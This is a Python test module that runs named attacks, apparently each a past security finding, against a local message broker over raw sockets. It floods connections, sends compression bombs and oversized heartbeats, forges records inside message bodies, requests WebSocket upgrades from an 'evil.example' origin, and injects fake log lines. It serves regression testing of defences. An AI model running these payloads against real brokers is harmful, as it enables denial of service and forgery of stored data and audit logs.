"""Attacks on a running broker, as raw frames over plain sockets: `python -m tests.hostile JSON`.

Each was an attack that worked once. They are bounded in time, run in a process of their own, and print a line
of JSON at the end: how many frames were sent, how often the connection was cut, what was obtained.
"""

from __future__ import annotations

import contextlib
import errno
import itertools
import json
import os
import random
import select
import socket
import ssl
import struct
import time
import zlib
from collections.abc import Callable, Iterator
from typing import Any, Final

from attrs import define, field

from rmq.errors import RmqError
from rmq.message import parse_offset_message_id
from rmq.protocol.auth.signature import Credentials, signed
from rmq.protocol.bodies import (
    CheckClientRequestBody,
    ConsumerData,
    HeartbeatData,
    ProducerData,
    SubscriptionData,
)
from rmq.protocol.codes import PULL_SUBSCRIPTION, PULL_SUSPEND, RequestCode
from rmq.protocol.command import Command
from rmq.protocol.frames import Decoder, encode
from rmq.protocol.headers import (
    GetRouteInfoRequestHeader,
    GetTopicStatsInfoRequestHeader,
    QueryConsumerOffsetRequestHeader,
    QueryMessageRequestHeader,
    ViewMessageRequestHeader,
)
from rmq.protocol.record import Record, encode_record
from tests.unit.broker.rig import batch, pull, send

TOPIC: Final = "Low"
BUSY: Final = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)
SEND_BYTES: Final = 256 * 1024
SOURCES: Final = ("127.0.0.2", "127.0.0.3", "127.0.0.4")
"""Where attackers come from; honest clients come from 127.0.0.1."""
WEB_PAGE: Final = (
    b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n%b"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
)


@define
class Attacker:
    """An attacker: its target, its account, its time, and its results."""

    address: str
    ha_address: str
    seconds: float
    pages_address: str = ""
    ca: str = ""
    access_key: str = ""
    secret: str = ""
    patience: float = 0.0
    """Seconds beyond its time for an attacker that has sent nothing yet, on a machine that is busy."""
    until: float = 0.0
    sent: int = 0
    cut: int = 0
    obtained: int = 0
    links: list[socket.socket] = field(factory=list)
    begins: Callable[[], None] = lambda: None
    _sources: Iterator[str] = field(factory=lambda: itertools.cycle(SOURCES))

    def begin(self) -> None:
        """All is prepared: from now on the time counts."""
        if not self.until:
            self.until = time.monotonic() + self.seconds
            self.begins()

    @property
    def left(self) -> bool:
        """True if time is left; the time runs from the first call on, or from `begin`."""
        self.begin()
        return time.monotonic() < self.until + (0.0 if self.sent else self.patience)

    def dial(self, address: str = "", *, tls: bool = True) -> socket.socket:
        """A connection. Raises OSError."""
        host, _, port = (address or self.address).rpartition(":")
        source = (next(self._sources), 0)
        link = socket.create_connection((host, int(port)), timeout=5, source_address=source)
        if self.ca and tls:
            link = ssl.create_default_context(cafile=self.ca).wrap_socket(link, server_hostname=host)
        return link

    def sign(self, command: Command) -> Command:
        """With the account's signature, if there is one."""
        return signed(command, Credentials(self.access_key, self.secret)) if self.secret else command

    def frames(self, commands: Iterator[Command]) -> Iterator[bytes]:
        """Their frames, some at a time."""
        while True:
            data = b""
            for command in itertools.islice(commands, 64):
                data += encode(self.sign(command))
                self.sent += 1
                if len(data) >= SEND_BYTES:
                    break
            if not data:
                return
            yield data

    def pump(self, make: Callable[[], Iterator[bytes]], *, reads: bool = True, hold: bool = True) -> None:
        """Send as fast as the other side takes it, and read what comes; again after a cut.

        With `hold` the connection stays to the end when all is sent.
        """
        while self.left:
            try:
                with self.dial() as link:
                    self._pump(link, make(), reads=reads, hold=hold)
                if not hold:
                    return
            except OSError:
                self.cut += 1
                time.sleep(0.05)

    def _pump(self, link: socket.socket, pieces: Iterator[bytes], *, reads: bool, hold: bool) -> None:
        link.setblocking(False)
        waiting = memoryview(b"")
        while self.left:
            moved = False
            if reads:
                with contextlib.suppress(*BUSY):
                    if not link.recv(1 << 18):
                        raise ConnectionResetError("closed")
                    moved = True
            if not waiting:
                waiting = memoryview(next(pieces, b""))
                if not waiting and not hold:
                    return
            if waiting:
                with contextlib.suppress(*BUSY):
                    waiting = waiting[link.send(waiting[:SEND_BYTES]) :]
                    moved = True
            if not moved:
                select.select([link] if reads else [], [link] if waiting else [], [], 0.05)

    def ask(self, link: socket.socket, *requests: Command) -> list[Command]:
        """The answers to some requests. Raises OSError."""
        link.sendall(b"".join(encode(self.sign(request)) for request in requests))
        self.sent += len(requests)
        decoder, answers = Decoder(), []
        while len(answers) < len(requests):
            data = link.recv(1 << 18)
            if not data:
                raise ConnectionResetError("closed")
            answers += decoder.feed(data)
        return answers


Attack = Callable[[Attacker], None]
ATTACKS: Final[dict[str, Attack]] = {}


def attack(name: str) -> Callable[[Attack], Attack]:
    """Give an attack its name, which begins with the number of the finding."""

    def keep(function: Attack) -> Attack:
        ATTACKS[name] = function
        return function

    return keep


def flood(attacker: Attacker, commands: Callable[[], Iterator[Command]], **options: Any) -> None:
    attacker.pump(lambda: attacker.frames(commands()), **options)


def repeat(attacker: Attacker, *commands: Command) -> None:
    """The same frames again and again, made once."""
    some = [encode(attacker.sign(command)) for command in commands]
    data = b"".join(some * max(1, SEND_BYTES // sum(map(len, some))))
    attacker.begin()

    def pieces() -> Iterator[bytes]:
        while True:
            attacker.sent += len(data) // sum(map(len, some)) * len(some)
            yield data

    attacker.pump(pieces)


def heartbeat(client: str, consumers: list[ConsumerData], producers: tuple[str, ...] = ()) -> Command:
    body = HeartbeatData(client, [ProducerData(name) for name in producers], consumers).to_json()
    return Command.request(RequestCode.HEART_BEAT, None, body)


def consumer(group: str, expression: str = "*", kind: str = "TAG", topic: str = TOPIC) -> ConsumerData:
    subscription = SubscriptionData(topic=topic, sub_string=expression, expression_type=kind)
    return ConsumerData(group_name=group, subscription_data_set=[subscription])


@attack("0 an honest producer")
def honest(attacker: Attacker) -> None:
    """Send honestly, as fast as possible: the cost of this client is the measure for all attacks."""
    repeat(attacker, *(send(TOPIC, bytes(100), queue_id=number % 4) for number in range(64)))


@attack("1 flags of records")
def flags(attacker: Attacker) -> None:
    commands = []
    for flag in (16, 32, 48, -1, 4, 12, 63):
        commands += [
            send(TOPIC, b"flags", sys_flag=flag),
            send(TOPIC, b"flags", sys_flag=flag, properties="DELAY\x011\x02UNIQ_KEY\x01A"),
            batch(TOPIC, sys_flag=flag),
            send("RMQ_SYS_TRACE_TOPIC", b"flags", sys_flag=flag),
        ]
    repeat(attacker, *commands)


@attack("2 NUL in properties")
def zeros(attacker: Attacker) -> None:
    repeat(attacker, send(TOPIC, b"zeros", properties="UNIQ_KEY\x01A\x02P\x01a" + "\0" * 20_000))


def hold_connections(attacker: Attacker, address: str, most: int) -> None:
    try:
        while attacker.left:
            if len(attacker.links) < most:
                try:
                    attacker.links.append(attacker.dial(address, tls=False))
                    attacker.sent += 1
                    continue
                except OSError as error:
                    attacker.cut += 1
                    if error.errno == errno.EMFILE:
                        most = len(attacker.links)
            time.sleep(0.05)
    finally:
        for link in attacker.links:
            link.close()


@attack("3 connections to the HA port")
def ha_connections(attacker: Attacker) -> None:
    hold_connections(attacker, attacker.ha_address, 1_500)


@attack("3 connections to the port for clients")
def connections(attacker: Attacker) -> None:
    hold_connections(attacker, attacker.address, 1_500)


@attack("3 connections again and again")
def reconnects(attacker: Attacker) -> None:
    while attacker.left:
        attacker.dial(attacker.address, tls=False).close()
        attacker.sent += 1


@attack("4 groups that appear once")
def groups(attacker: Attacker) -> None:
    def commands() -> Iterator[Command]:
        for number in itertools.count():
            names = [f"g{os.getpid()}-{number}-{one}" for one in range(200)]
            yield heartbeat(f"c{number}", [consumer(name) for name in names])

    flood(attacker, commands)


@attack("4 topics that appear once")
def topics(attacker: Attacker) -> None:
    flood(attacker, lambda: (send(f"T{os.getpid()}-{number}", b"t") for number in itertools.count()))


@attack("5 records inside bodies")
def forged(attacker: Attacker) -> None:
    """`obtained` counts forged records that a view by offset gave."""
    host = bytes([127, 0, 0, 1, 0, 0, 0x2A, 0x9F])
    link, place, size = attacker.dial(), 0, 0
    while attacker.left:
        inner = Record("Secret", 0, b"forged", "UNIQ_KEY\x01F", born_host=host)
        inner.physical_offset = place + size + 88
        body = encode_record(inner, host)
        viewing = Command.request(
            RequestCode.VIEW_MESSAGE_BY_ID, ViewMessageRequestHeader(inner.physical_offset)
        )
        stored, viewed = attacker.ask(link, send(TOPIC, body, properties="UNIQ_KEY\x01F"), viewing)
        attacker.obtained += viewed.code == 0 and b"forged" in viewed.body and len(viewed.body) == len(body)
        if stored.code == 0:
            place = parse_offset_message_id(stored.ext["msgId"])[1]
            size = 91 + len(body) + len(TOPIC) + len("UNIQ_KEY\x01F\x02CLUSTER\x01") + 13


@attack("9 web pages")
def web_pages(attacker: Attacker) -> None:
    """`obtained` counts upgrades that were granted to a page of another origin."""
    while attacker.left:
        with contextlib.suppress(OSError), attacker.dial() as link:
            link.sendall(WEB_PAGE % b"Origin: https://evil.example\r\n")
            attacker.sent += 1
            attacker.obtained += b" 101 " in link.recv(1000)


@attack("10 filters of 72 kB, and of 8 kB")
def filters(attacker: Attacker) -> None:
    commands = []
    texts = ("--" * 36_000, "a > 1 " + "-" * 8_000, "(" * 80 + "a=1" + ")" * 80, "a = 1 OR " * 880 + "b = 2")
    for number, text in enumerate(texts * 5):
        commands += [
            heartbeat(f"f{number}", [consumer(f"f{number}", text, "SQL92")]),
            pull(TOPIC, subscription=text, expression_type="SQL92", sys_flag=PULL_SUBSCRIPTION),
        ]
    repeat(attacker, *commands)


@attack("10 filters that are each another")
def ever_new_filters(attacker: Attacker) -> None:
    def commands() -> Iterator[Command]:
        for number in itertools.count():
            text = f"a = {os.getpid()}{number}" + " OR a = 1" * 880
            yield pull(TOPIC, subscription=text, expression_type="SQL92", sys_flag=PULL_SUBSCRIPTION)
            body = CheckClientRequestBody(
                "c", "readers", SubscriptionData(TOPIC, f"{text}0", expression_type="SQL92")
            )
            yield Command.request(RequestCode.CHECK_CLIENT_CONFIG, None, body.to_json())

    flood(attacker, commands)


@attack("11 all tables, and the progress of all")
def tables(attacker: Attacker) -> None:
    def commands() -> Iterator[Command]:
        for number in range(4_000):
            yield send(f"Table{os.getpid()}-{number}", b"t")
        while True:
            yield Command.request(RequestCode.GET_ALL_TOPIC_CONFIG)
            yield Command.request(RequestCode.GET_ALL_SUBSCRIPTIONGROUP_CONFIG)
            yield Command.request(RequestCode.GET_BROKER_CONSUME_STATS, {"isOrder": "false"})

    flood(attacker, commands)


@attack("11 statistics in one go")
def statistics(attacker: Attacker) -> None:
    repeat(attacker, Command.request(202, GetTopicStatsInfoRequestHeader("BenchmarkTest")))


@attack("11 locks of 200,000 queues")
def locks(attacker: Attacker) -> None:
    rows = [{"brokerName": "b", "queueId": number, "topic": TOPIC} for number in range(200_000)]
    text = json.dumps({"clientId": "c", "consumerGroup": "readers", "mqSet": rows}).encode()
    repeat(attacker, Command.request(RequestCode.LOCK_BATCH_MQ, None, text))


@attack("11 heartbeats of 15 MB")
def heartbeats(attacker: Attacker) -> None:
    text = heartbeat("h", [consumer("GROUP")]).body
    at = text.index(b"[{") + 1
    one, rest = text[at : text.rindex(b"}]") + 1], text[text.rindex(b"}]") + 1 :]
    most = (15 << 20) // (len(one) + 8)
    many = b",".join(one.replace(b"GROUP", b"g%d" % number) for number in range(most))
    repeat(attacker, Command.request(RequestCode.HEART_BEAT, None, text[:at] + many + rest))


@attack("12 pulls that wait")
def held(attacker: Attacker) -> None:
    def commands() -> Iterator[Command]:
        flags = PULL_SUBSCRIPTION | PULL_SUSPEND
        for number in range(100_000):
            yield pull(TOPIC, 1 << 40, queue_id=number % 4, sys_flag=flags, suspend_timeout_millis=1 << 40)
            if number % 1_000 == 0:
                yield send(TOPIC, b"wake", queue_id=number % 4)

    flood(attacker, commands)


@attack("13 what is remembered of peers")
def caches(attacker: Attacker) -> None:
    def commands() -> Iterator[Command]:
        for number in itertools.count():
            word = f"{os.getpid()}-{number}"
            yield pull(TOPIC, subscription=f"{word} || " + "x" * 200, consumer_group="readers")
            yield send(
                TOPIC, b"t", properties=f"TAGS\x01{word}{'t' * 200}\x02UNIQ_KEY\x01{word}\x02K{word}\x01v"
            )
            yield Command.request(14, QueryConsumerOffsetRequestHeader(f"g{word}", TOPIC, 0))
            yield Command.request(1_000 + number % 300_000)
            yield Command.request(34, {"AccessKey": f"user{word}", "Signature": word})
            yield send(
                TOPIC, b"r", code=RequestCode.SEND_REPLY_MESSAGE_V2, properties=f"REPLY_TO_CLIENT\x01{word}"
            )

    flood(attacker, commands)


@attack("14 frames that never end")
def unfinished(attacker: Attacker) -> None:
    """Open as many connections as possible, each with 15 MB of a frame of 16 MB."""
    piece = bytes(SEND_BYTES)
    head = struct.pack(">iI", (16 << 20) - 4, 15 << 20) + b'{"code":310,'
    owed: dict[socket.socket, int] = {}
    while attacker.left:
        if len(owed) < 60:
            with contextlib.suppress(OSError):
                link = attacker.dial()
                link.sendall(head)
                link.setblocking(False)
                owed[link] = 15 << 20
                attacker.sent += 1
        for link in list(owed):
            try:
                owed[link] -= link.send(piece[: max(0, owed[link])]) if owed[link] > 0 else 0
            except BUSY:
                continue
            except OSError:
                attacker.cut += 1
                del owed[link]
                link.close()
        time.sleep(0.002)
    for link in owed:
        link.close()


@attack("14 peers that never read")
def deaf(attacker: Attacker) -> None:
    def commands() -> Iterator[Command]:
        while True:
            yield Command.request(RequestCode.GET_ALL_TOPIC_CONFIG)
            yield pull(TOPIC)
            yield Command.request(105, GetRouteInfoRequestHeader(TOPIC))

    flood(attacker, commands, reads=False)


@attack("14 bombs")
def bombs(attacker: Attacker) -> None:
    bomb = zlib.compress(bytes(4 << 20), 9)

    def commands() -> Iterator[Command]:
        query = QueryMessageRequestHeader(TOPIC, "bomb", 64, 0, 1 << 62)
        yield from (send(TOPIC, bomb, sys_flag=1, properties="KEYS\x01bomb") for _ in range(64))
        while True:
            yield Command.request(RequestCode.QUERY_MESSAGE, query)

    flood(attacker, commands)


@attack("14 fragments of WebSockets")
def fragments(attacker: Attacker) -> None:
    empty = b"\x02\x80\0\0\0\0" + b"\0\x80\0\0\0\0" * 40_000

    def pieces() -> Iterator[bytes]:
        yield WEB_PAGE % b""
        while True:
            attacker.sent += 40_000
            yield empty

    attacker.pump(pieces)


@attack("15 half messages with immunity")
def immunity(attacker: Attacker) -> None:
    text = "TRAN_MSG\x01true\x02PGROUP\x01p\x02CHECK_IMMUNITY_TIME_IN_SECONDS\x019999999999\x02UNIQ_KEY\x01H"
    flood(attacker, lambda: (send(TOPIC, b"half", properties=text) for _ in range(2_000)))


@attack("16 names with line breaks")
def names(attacker: Attacker) -> None:
    forged_line = "\n2026-01-01T00:00:00.000Z INFO admin who=FORGED\x1b[2J"

    def commands() -> Iterator[Command]:
        for number in itertools.count():
            yield heartbeat(
                f"c{number}{forged_line}", [consumer(f"g{number}{forged_line}")], (f"p{forged_line}",)
            )
            yield send(TOPIC + forged_line)
            yield Command.request(34, {"AccessKey": f"manager{forged_line}", "Signature": "x"})

    flood(attacker, commands)


@attack("19 nonsense")
def nonsense(attacker: Attacker) -> None:
    chance = random.Random(1)

    def pieces() -> Iterator[bytes]:
        attacker.sent += 1
        yield chance.randbytes(chance.randrange(1, 4000))

    while attacker.left:
        attacker.pump(pieces, hold=False)


def carry_out(name: str, attacker: Attacker) -> dict[str, int]:
    """Attack until the time is over; returns what came of it."""
    while not attacker.until or attacker.left:
        try:
            ATTACKS[name](attacker)
        except (OSError, RmqError):
            attacker.cut += 1
            time.sleep(0.05)
    return {"sent": attacker.sent, "cut": attacker.cut, "obtained": attacker.obtained}


def main(text: str) -> None:
    """Carry out one attack; `text` is the JSON of `name` and of what an Attacker has."""
    spec = json.loads(text)
    name = spec.pop("name")
    print(json.dumps(carry_out(name, Attacker(**spec, begins=lambda: print("ready", flush=True)))))
